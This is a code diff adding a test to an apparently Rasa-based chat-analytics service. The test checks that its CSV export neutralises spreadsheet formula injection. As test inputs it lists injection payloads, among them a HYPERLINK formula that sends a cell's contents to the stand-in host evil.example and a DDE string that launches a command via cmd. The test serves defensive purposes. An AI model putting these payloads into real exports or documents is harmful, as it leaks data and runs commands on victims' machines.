@@ -175,6 +175,31 @@ def test_exports_stream_masked_csv_and_jsonl_that_parse_back(client, analyst, se
     assert record["messages"][3]["text"] == "您好，我是人工客服，请不要发送卡号****0123"
 
 
+def test_the_csv_export_never_hands_a_formula_to_a_spreadsheet(client, analyst, staff_factory):
+    conversation = f"formula-{uuid.uuid4().hex[:6]}"
+    now = time.time()
+    attacks = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3",
+               "@SUM(1,1)", "\t=1+1", "\r=1+1", "＝HYPERLINK(\"http://evil.example\")", "您好=正常文字"]  # fmt: skip
+    events = [(conversation, user(text, "nlu_fallback", 0.3, now - 100 + i)) for i, text in enumerate(attacks)]
+    events.append((conversation, bot("=1+1", now - 50, agent="=cmd")))
+    base = int(now * 1000) % 10**9 + 500_000
+    with staff_factory.session() as session:
+        transcripts.ingest_rasa_events(
+            session, [(base + i, sender, json.dumps(event, ensure_ascii=False)) for i, (sender, event) in enumerate(events)]
+        )
+    response = client.get("/api/analyst/export/conversations.csv", headers=analyst)
+    rows = [row for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
+            if row["conversation_id"] == conversation]  # fmt: skip
+    assert len(rows) == len(events)
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (column, cell)
+    texts = [row["text"] for row in rows]
+    assert texts[0] == "'" + attacks[0] and texts[2] == "'-2+3"  # shown as typed, after the quote
+    assert "您好=正常文字" in texts, "ordinary text is left alone"
+    assert rows[-1]["agent_name"] == "'=cmd"
+
+
 def test_the_dashboard_counts_and_links_each_figure_to_its_conversations(client, analyst, seeded):
     response = client.get("/api/analyst/dashboard", headers=analyst)
     assert response.status_code == 200
